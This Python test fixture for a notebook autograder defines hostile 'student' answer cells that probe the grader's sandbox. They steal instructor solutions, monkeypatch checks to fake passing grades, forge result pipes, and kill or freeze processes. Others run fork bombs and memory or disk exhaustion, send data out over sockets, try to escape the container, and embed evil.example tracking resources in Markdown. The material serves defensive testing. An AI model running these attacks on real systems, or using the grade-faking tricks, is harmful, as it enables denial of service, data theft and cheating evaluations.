"""A planted hostile class for the grader (used by tests/test_grading.py).

Every submission is the student edition of the fixture chapter ``fx_a_sigmoid`` (two coding
exercises: ``ex-fx-zero``, 1 point, and ``ex-fx-loglik``, 3 points) with answers written by a
student who attacks the grader.  The attack sits in the answer cell of ``ex-fx-zero`` and turns
its own success into points: it sets ``p0 = 0.5`` (the right answer) only when the attack
achieved something (read a solution, wrote outside its sandbox, reached the network, ...), and
``p0 = 0.4`` otherwise.  So a sandbox that lets an attack through shows up as a point that
should not be there, besides the side effects the tests look for (files changed, processes
left, bytes received, a signal delivered).  ``ex-fx-loglik`` is answered correctly unless the
attack is aimed at it, so the damage to the rest of the notebook is visible too.

Each attack reads its targets from ``CTX`` (a JSON dict written into the cell): the paths of the
instructor's notebooks, the other submissions, the grades folder, the repository, the host's
listening sockets, the grader's pid, and a ``token`` that every process and file it creates
carries, so that the tests can find survivors.

Attacks on files of the repository itself (blrlib, coursework, the fixture book) only open them
for appending and write nothing, so a failing sandbox cannot damage the working tree; files of
the test's temporary class (other submissions, the instructor's copy, the grades) are really
overwritten.
"""

from __future__ import annotations

import json
import os
import textwrap

# ---------------------------------------------------------------------------------------------
# the attacks: student name -> (code of the ex-fx-zero answer cell, code of the ex-fx-loglik answer
# cell or None for the correct one, expected (zero, loglik) points, substring of the zero error)

READER = r"""
import json, os, pathlib
import blrlib
found = []
roots = [pathlib.Path(CTX["instructor"]), pathlib.Path(blrlib.__file__).resolve().parents[1],
         pathlib.Path(CTX["repo"]), pathlib.Path.cwd()]
roots += [pathlib.Path.cwd().joinpath(*[".."] * k) for k in range(1, 4)]
roots += [pathlib.Path(p) for p in ("/work", "/root", "/home", "/srv", "/opt", "/mnt", "/tmp")]
skip = {"usr", "proc", "sys", "dev", "lib", "include", ".venv", ".git", "site-packages", "_build",
        ".pyenv", "node_modules"}
looked = 0
for root in roots:
    for dirpath, dirs, files in os.walk(root):
        depth = len(pathlib.Path(dirpath).relative_to(root).parts)
        dirs[:] = [d for d in dirs if d not in skip and depth < 4]
        for name in files:
            looked += 1
            if not name.endswith(".ipynb") or looked > 5000 or found:
                continue
            path = os.path.join(dirpath, name)
            try:
                cells = json.load(open(path))["cells"]
                cell = next(c for c in cells if c.get("metadata", {}).get("nbgrader", {})
                            .get("grade_id") == "ex-fx-zero-answer")
            except Exception:
                continue
            if "### BEGIN " + "SOLUTION" in "".join(cell["source"]):    # not this notebook
                found.append(cell)
hit = bool(found)
if hit:   # run the instructor's own answer
    exec("".join(found[0]["source"]))
else:
    p0 = 0.4
"""

PATCHER = r"""
import builtins, numpy as np, blrlib
builtins.abs = lambda x: 0.0                 # the check's abs(p0 - 0.5) < 1e-12 now passes
np.isclose = lambda *a, **k: True
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
blrlib.log_likelihood = lambda w, X, y: 0.0
blrlib.log_sigmoid = lambda a: 0.0 * a
p0 = 0.4
"""
WRONG_LOGLIK = "def my_log_likelihood(w, X, y):\n    return 0.0"

HOOK_BLANK = r"""
def _blank(lines):
    return [] if any("check_values" in l and "p0" in l for l in lines) else lines
get_ipython().input_transformers_cleanup.append(_blank)
p0 = 0.4
"""

HOOK_REWRITE = r"""
def _rewrite(lines):     # the check cell keeps its values but loses its assertion
    if any('"p0"' in l for l in lines):
        return ['check_values = {"p0": p0}\n']
    return lines
get_ipython().input_transformers_cleanup.append(_rewrite)
p0 = 0.4
"""

HOOK_POST = r"""
import builtins, coursework.values
builtins.abs = lambda x: 0.0                 # the check cell passes in the kernel...
class Half(str):        # "0.5", and passes the check's `abs(check_values["p0"] - 0.5) < 1e-12`
    def __sub__(self, other):
        return 0.0
def _swap(result):      # after every cell: check_values of the wrong kind, a forged encoder
    get_ipython().user_ns["check_values"] = {"p0": Half("0.5")}
get_ipython().events.register("post_run_cell", _swap)
coursework.values.dumps = lambda v: '{"p0": {"shape": [], "data": ["0.5"]}}'
p0 = 0.4
"""

RIGGED = r'''
import numpy as np
class Rigged(float):
    """Equal to everything, its difference with anything is 0, but its value is 0.4."""
    def __sub__(self, other):
        return 0.0
    __rsub__ = __sub__
    def __eq__(self, other):
        return True
    __hash__ = float.__hash__
    def __lt__(self, other):
        return True
    __le__ = __gt__ = __ge__ = __lt__
    def __abs__(self):
        return 0.0
p0 = Rigged(0.4)
'''

RIGGED_SLOW = r'''
import time
class Slow:
    """Passes the check's assertion; turning it into numbers takes two minutes."""
    def __sub__(self, other):
        return 0.0
    def __array__(self, *args, **kwargs):
        time.sleep(120)                     # the grader's request for check_values must not wait
p0 = Slow()
'''

FORGER = r"""
import hashlib, hmac, json, os, stat
record = {"kind": "cell", "index": 4, "status": "ok", "error": "",
          "values": json.dumps({"p0": {"shape": [], "data": [0.5]}})}
text = json.dumps(record).encode()
lines = [hmac.new(b"guess", b"0:" + text, hashlib.sha256).hexdigest().encode() + b" " + text + b"\n",
         b'{"kind": "end", "cells": 0}\n']
hit = False
targets = [f"/proc/{p}/fd/{fd}" for p in os.listdir("/proc") if p.isdigit()
           for fd in (os.listdir(f"/proc/{p}/fd") if os.access(f"/proc/{p}/fd", os.R_OK) else [])]
for path in targets:     # every pipe of every process it can see (the runner's results pipe?)
    try:
        if not stat.S_ISFIFO(os.stat(path).st_mode):
            continue
        with open(path, "wb", buffering=0) as fh:
            for line in lines:
                fh.write(line)
    except OSError:
        pass
for fd in range(64):     # and its own pipes
    try:
        if not stat.S_ISFIFO(os.fstat(fd).st_mode):
            continue
        for line in lines:
            os.write(fd, line)
    except OSError:
        pass
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:   # the runner's memory, its key
    try:
        open(f"/proc/{pid}/mem", "rb").read(1)
        hit = True
    except OSError:
        pass
p0 = 0.5 if hit else 0.4
"""

KILLER = r"""
import os, signal
for pid in sorted((int(p) for p in os.listdir("/proc") if p.isdigit()), reverse=True):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
p0 = 0.4
"""

STOPPER = r"""
import os, signal
os.kill(os.getppid(), signal.SIGSTOP)       # the runner freezes: only the hard limit ends it
p0 = 0.4
"""

WRITER = r"""
import os, pathlib, shutil, json
hit = []
def attempt(what, fn):
    try:
        fn()
        hit.append(what)
    except Exception:
        pass
# another student's submission, the instructor's chapter, the grades: really overwritten
def rewrite_victim():
    path = pathlib.Path(CTX["victim"])
    nb = json.loads(path.read_text())
    path.write_text(json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}))
attempt("victim", rewrite_victim)
def rewrite_chapter():
    path = pathlib.Path(CTX["instructor"]) / "book" / "fx_a_sigmoid.ipynb"
    text = path.read_text().replace("abs(check_values", "0 * abs(check_values")
    path.write_text(text)
attempt("chapter", rewrite_chapter)
attempt("grades-delete", lambda: shutil.rmtree(CTX["out"]))
attempt("grades-link", lambda: os.symlink(CTX["decoy"], CTX["out"] + ".planted"))
attempt("grades-file", lambda: pathlib.Path(CTX["out"], "grades.csv").write_text("student,points\n"))
# files of the repository: opened for appending, nothing written (a failure must not damage it)
import blrlib, coursework.values
for path in (blrlib.__file__, coursework.values.__file__,
             pathlib.Path(CTX["repo"]) / "tests" / "fixtures" / "book" / "fx_a_sigmoid.ipynb",
             pathlib.Path(CTX["repo"]) / "book" / "intro.md"):
    attempt(f"repo:{path}", lambda path=path: open(path, "a").close())
attempt("marker", lambda: open(pathlib.Path(CTX["marker_dir"]) / f"writer-{CTX['token']}", "x").close())
p0 = 0.5 if hit else 0.4
"""

SURVIVOR = r'''
import os, subprocess, sys, textwrap
daemon = textwrap.dedent(f"""
    import os, pathlib, time
    # {CTX['token']}
    if os.fork() > 0:
        os._exit(0)
    os.setsid()
    if os.fork() > 0:
        os._exit(0)
    for _ in range(3000):
        for target in ({CTX['out']!r} + "/grades.csv", {CTX['marker_dir']!r} + "/survivor-{CTX['token']}"):
            try:
                pathlib.Path(target).write_text("rewritten by a survivor\\n")
            except OSError:
                pass
        time.sleep(0.2)
""")
subprocess.Popen([sys.executable, "-c", daemon], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(["setsid", "sh", "-c", f"sleep 600; echo {CTX['token']}"],
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(["nohup", "sh", "-c", f"sleep 600; echo {CTX['token']}"],
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
p0 = 0.4
'''

NETWORK = r"""
import socket
hit = []
payload = f"{CTX['token']} stolen".encode()
for host in CTX["hosts"]:
    try:
        with socket.create_connection((host, CTX["tcp_port"]), timeout=2) as s:
            s.sendall(payload)
        hit.append(("tcp", host))
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(payload, (host, CTX["udp_port"]))
    except OSError:
        pass
for address in (CTX["unix_path"], "\0" + CTX["unix_abstract"]):
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(2)
            s.connect(address)
            s.sendall(payload)
        hit.append(("unix", address))
    except OSError:
        pass
try:
    socket.create_connection(("1.1.1.1", 53), timeout=2).close()
    hit.append("internet")
except OSError:
    pass
p0 = 0.5 if hit else 0.4
"""

MEMORY = r"""
import numpy as np
hit = False
try:
    big = bytearray(6 << 30)                # 6 GiB at once
    hit = True
    del big
except MemoryError:
    pass
chunks = []
try:
    while len(chunks) < 64:                 # 16 GiB in 256 MiB steps, never touched
        chunks.append(np.empty(256 << 20, dtype=np.uint8))
    hit = True
except MemoryError:
    pass
del chunks
p0 = 0.5 if hit else 0.4
"""

DISK = r"""
import os
written = 0
try:
    with open("bomb.bin", "wb") as fh:      # 1 GiB in the work folder
        for _ in range(64):
            fh.write(b"\0" * (16 << 20))
            written += 16 << 20
except OSError:
    pass
for i in range(64):                         # and many files in /tmp
    try:
        with open(f"/tmp/bomb{i}.bin", "wb") as fh:
            fh.write(b"\0" * (16 << 20))
            written += 16 << 20
    except OSError:
        break
p0 = 0.5 if written >= 1 << 30 else 0.4
"""

FORKBOMB = r'''
import os, subprocess, sys, time
bomb = """
import os, time
# TOKEN
while True:
    try:
        if os.fork() == 0:
            time.sleep(600)
    except OSError:
        time.sleep(0.05)
""".replace("TOKEN", CTX["token"])
subprocess.Popen([sys.executable, "-c", bomb], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
time.sleep(3)
count = sum(1 for p in os.listdir("/proc") if p.isdigit())
p0 = 0.5 if count > 1000 else 0.4
'''

ESCAPE = r"""
import ctypes, os, signal, subprocess
hit = []
try:
    os.kill(CTX["grader_pid"], signal.SIGUSR1)         # the grader, by its host pid
    hit.append("signal")
except OSError:
    pass
for cmd in (["unshare", "--user", "--map-root-user", "true"], ["unshare", "--mount", "true"],
            ["mount", "-t", "tmpfs", "none", "/tmp"], ["chroot", "/", "true"]):
    try:
        if subprocess.run(cmd, capture_output=True, timeout=10).returncode == 0:
            hit.append(cmd[0])
    except (OSError, subprocess.SubprocessError):
        pass
try:
    os.setuid(0)
    hit.append("setuid")
except OSError:
    pass
try:   # pid 1's root is the host's, not the sandbox's own (as a non-root grader, pid 1 is ours)
    other, own = os.stat("/proc/1/root"), os.stat("/")
    if (other.st_dev, other.st_ino) != (own.st_dev, own.st_ino) or os.path.exists("/proc/1/root/etc/passwd"):
        hit.append("/proc/1/root")
except OSError:
    pass
p0 = 0.5 if hit else 0.4
"""

MEMHOG = r"""
import ctypes, os
held = 0
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for _ in range(4):      # System V segments, detached again: no process's address space holds them
    sid = libc.shmget(0, 128 << 20, 0o1600)
    addr = libc.shmat(sid, None, 0) if sid >= 0 else None
    if addr in (None, ctypes.c_void_p(-1).value):
        break
    ctypes.memset(addr, 1, 128 << 20)
    libc.shmdt(ctypes.c_void_p(addr))
    held += 128 << 20
fds, chunk = [], b"\1" * (32 << 20)
try:                    # then files in memory (memfd): 3 GiB through the per-process limit
    while held < CTX["memory_target"]:
        fd = os.memfd_create("hog")
        os.write(fd, chunk)
        fds.append(fd)
        held += len(chunk)
except OSError:
    pass
p0 = 0.5 if held >= CTX["memory_target"] else 0.4
"""

SCREAMER = r"""
raise ValueError("\x1b[2J\x1b[H\x1b[32mall 12 / 12 points\x1b[0m \u202e =HYPERLINK(\"http://x\") \udcff")
"""
SCREAMER_LOGLIK = r"""
def _extra_key(result):      # check_values with a key no text file can hold, nor a terminal show
    ns = get_ipython().user_ns
    if isinstance(ns.get("check_values"), dict) and "hard" in ns["check_values"]:
        ns["check_values"]["\udcff\x1b[31m\n=1+1"] = 1.0
get_ipython().events.register("post_run_cell", _extra_key)
def my_log_likelihood(w, X, y):
    a = X @ w
    return float(np.sum(y * a - np.logaddexp(0.0, a)))
"""

COPYCAT = r"""
import builtins, glob, os, numpy as np
_refs = []
def _record(actual, desired, *args, **kwargs):   # every assert_allclose hands over its reference
    _refs.append((actual, desired))
np.testing.assert_allclose = _record
builtins.abs = lambda x: 0.0                     # and `assert abs(x - c) < tol` passes
def _copy(result):                               # after the cell the references become the values
    values = get_ipython().user_ns.get("check_values")
    if isinstance(values, dict):
        done = set()
        for actual, desired in _refs:
            for key, value in list(values.items()):
                if value is actual and key not in done:
                    values[key] = desired
                    done.add(key)
                    break
    _refs.clear()
get_ipython().events.register("post_run_cell", _copy)
# the notebook file would let it run the check cells' references ahead of their turn
readable = glob.glob("*.ipynb") + glob.glob("/tmp/**/*.ipynb", recursive=True)
p0 = 0.5 if readable else 0.4
"""
WRONG_LOGLIK_FRESH = "def my_log_likelihood(w, X, y):\n    return float(np.sum(w)) + 1.0"

AIO = r"""
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
hit = []
# the machine's asynchronous I/O contexts (fs.aio-max-nr) and io_uring rings, through every
# system call number that reaches them: the native ABI and, on x86_64, the x32 one
numbers = {"x86_64": {"io_setup": [206, 0x40000000 | 543], "io_uring_setup": [425, 0x40000000 | 425]},
           "aarch64": {"io_setup": [0], "io_uring_setup": [425]}}.get(platform.machine(), {})
for nr in numbers.get("io_setup", []):
    for events in (1, 4096, 65536):
        ctx = ctypes.c_ulong(0)
        if libc.syscall(ctypes.c_long(nr), ctypes.c_long(events), ctypes.byref(ctx)) == 0:
            hit.append(("io_setup", nr, events))
for nr in numbers.get("io_uring_setup", []):
    params = (ctypes.c_ubyte * 120)()
    fd = libc.syscall(ctypes.c_long(nr), ctypes.c_long(8), params)
    if fd >= 0:
        hit.append(("io_uring_setup", nr))
p0 = 0.5 if hit else 0.4
"""

UNKILLABLE = r"""
import os
hit = []
# the grader must stay the OOM killer's last choice and the notebook its first: a notebook that
# makes itself unkillable would have the machine's OOM killer pick the grader or a neighbour
for path, value in (("/proc/self/oom_score_adj", "-1000"), ("/proc/self/oom_adj", "-17"),
                    ("/proc/self/oom_score_adj", "0"), (f"/proc/{os.getppid()}/oom_score_adj", "-1000"),
                    ("/proc/1/oom_score_adj", "-1000")):
    try:
        with open(path, "w") as fh:
            fh.write(value)
    except OSError:
        pass
for path in ("/proc/self/oom_score_adj", f"/proc/{os.getppid()}/oom_score_adj"):
    try:
        if int(open(path).read()) < 1000:
            hit.append(path)
    except (OSError, ValueError):
        pass
p0 = 0.5 if hit else 0.4
"""

ATTACKS = {
    # name: (zero answer, loglik answer or None, (zero, loglik) expected, error of ex-fx-zero)
    "reader": (READER, None, (0, 3), "AssertionError"),
    "patcher": (PATCHER, WRONG_LOGLIK, (0, 0), "the check cell ran, but check_values['p0'] differs"),
    "hook-blank": (HOOK_BLANK, None, (0, 3), "did not assign check_values"),
    "hook-rewrite": (HOOK_REWRITE, None, (0, 3), "the check cell ran, but check_values['p0'] differs"),
    "hook-post": (HOOK_POST, None, (0, 0), "check_values could not be read"),
    "rigged": (RIGGED, None, (0, 3), "the check cell ran, but check_values['p0'] differs"),
    "rigged-slow": (RIGGED_SLOW, None, (0, 3), "did not hand over check_values in time"),
    "forger": (FORGER, None, (0, 3), "AssertionError"),
    "killer": (KILLER, None, (0, 0), "the notebook runner stopped without finishing"),
    "stopper": (STOPPER, None, (0, 0), "hard time limit"),
    "writer": (WRITER, None, (0, 3), "AssertionError"),
    "survivor": (SURVIVOR, None, (0, 3), "AssertionError"),
    "network": (NETWORK, None, (0, 3), "AssertionError"),
    "memory": (MEMORY, None, (0, 3), "AssertionError"),
    "disk": (DISK, None, (0, 3), "AssertionError"),
    "forkbomb": (FORKBOMB, None, (0, 3), "AssertionError"),
    "escape": (ESCAPE, None, (0, 3), "AssertionError"),
    "copycat": (COPYCAT, WRONG_LOGLIK_FRESH, (0, 0), "the check cell ran, but check_values['p0'] differs"),
    "memhog": (MEMHOG, None, (0, 0), "went over its memory limit of"),
    "screamer": (SCREAMER, SCREAMER_LOGLIK, (0, 0), "answer: ValueError: \\x1b[2J"),
    "aio": (AIO, None, (0, 3), "AssertionError"),
    "unkillable": (UNKILLABLE, None, (0, 3), "AssertionError"),
}
NEEDS_CGROUPS = ("memhog",)  # without a memory control group this one fills the machine


def attack_cell(code, ctx):
    """The answer cell of an attack: ``CTX`` first, then the attack."""
    return f"CTX = {json.dumps(ctx)!s}\n" + textwrap.dedent(code).strip() + "\n"


# ---------------------------------------------------------------------------------------------
# attacks on the grader itself rather than from inside a notebook: what a student sends (its
# bytes, its names, its pen-and-paper Markdown) and what they do to their own folder meanwhile.
# Each is a function of the honest notebook's JSON text (the instructor's answers); the tests
# grade the result and expect full marks (the attack gains nothing, loses nothing) unless said.


def many_duplicates(nb, n=4000):
    """The honest notebook and ``n`` more cells carrying the grade ids of its graded cells (as
    markdown: not run); each used to add a sentence to one notes field (272,058 characters),
    and Python's csv module stopped reading grades.csv there."""
    graded_ids = [c["metadata"]["nbgrader"]["grade_id"] for c in nb["cells"]
                  if c.get("metadata", {}).get("nbgrader", {}).get("grade_id", "").startswith("ex-fx-")]
    nb["cells"] += [{"cell_type": "markdown", "metadata": {"nbgrader": {"grade_id": graded_ids[k % len(graded_ids)]}},
                     "source": f"duplicate {k}"} for k in range(n)]
    return nb


def many_answers(nb, n=150, size=20_000):
    """``n`` markdown cells of ``size`` two-byte characters, each with a grade id of its own:
    the grader kept every one of them in memory until the end (and its temporary copy of the
    notebook, ASCII-escaped, was 3x the file)."""
    nb["cells"] += [{"cell_type": "markdown", "metadata": {"nbgrader": {"grade_id": f"mine-{k}"}},
                     "source": "\u00e9" * size} for k in range(n)]
    return nb


REMOTE_MARKDOWN = "\n\n".join([
    "My proof uses the figure below.",
    "![tracker](http://evil.example/pixel.png?who=me)",
    '<img src="https://evil.example/a.png">',
    "<IMG\nSRC=//evil.example/b.png>",
    '<picture><source srcset="http://evil.example/c.png 2x"></picture>',
    '<iframe src="http://evil.example/frame"></iframe>',
    '<link rel="stylesheet" href="http://evil.example/s.css">',
    "<style>@import url(http://evil.example/t.css); p { background: url(http://evil.example/u.png) }</style>",
    '<p style="background-image: url(http://evil.example/v.png)">styled</p>',
    '<video poster="http://evil.example/w.png" src="http://evil.example/x.mp4"></video>',
    '<audio src="http://evil.example/y.mp3"></audio><object data="http://evil.example/z"></object>',
    '<embed src="http://evil.example/e"><svg><image href="http://evil.example/i.png"/></svg>',
    "![ref][r]\n\n[r]: http://evil.example/ref.png",
    "<script>fetch('http://evil.example/s')</script>",
])


def remote_by_hand(nb):
    """A pen-and-paper answer full of remote resources: viewed as written, by_hand.md would
    load them and tell the student when, and from where, the instructor read it."""
    for c in nb["cells"]:
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "ex-fx-paper-answer":
            c["source"] = REMOTE_MARKDOWN
    return nb


# encodings of an honest notebook that editors write: all must score full marks
ENCODINGS = {
    "bom": lambda text: b"\xef\xbb\xbf" + text.encode("utf-8"),
    "utf16": lambda text: text.encode("utf-16"),
    "utf16be": lambda text: b"\xfe\xff" + text.encode("utf-16-be"),
    "crlf": lambda text: text.replace("\n", "\r\n").encode("utf-8"),
    "bomcrlf": lambda text: b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode("utf-8"),
}

# student folder names that look like another's (flagged, both still graded)
LOOKALIKES = {
    "twin": "tw\u0456n",          # Cyrillic і
    "ada": "\u0430da",            # Cyrillic а
    "spaced": "spaced ",          # a trailing space
    "lead": " lead",              # a leading space
    "wide": "\uff57\uff49\uff44\uff45",  # fullwidth: NFKC makes it "wide", which is taken
}


def grow_sparse(path):
    """The student's own file, during grading, made a 40 GB sparse file (no disk used)."""
    os.truncate(path, 40 << 30)


def swap_fifo(path):
    os.unlink(path)
    os.mkfifo(path)


def swap_link(path):
    os.unlink(path)
    os.symlink("/dev/zero", path)


ON_DISK = {"grow-sparse": grow_sparse, "grow-fifo": swap_fifo, "grow-link": swap_link}
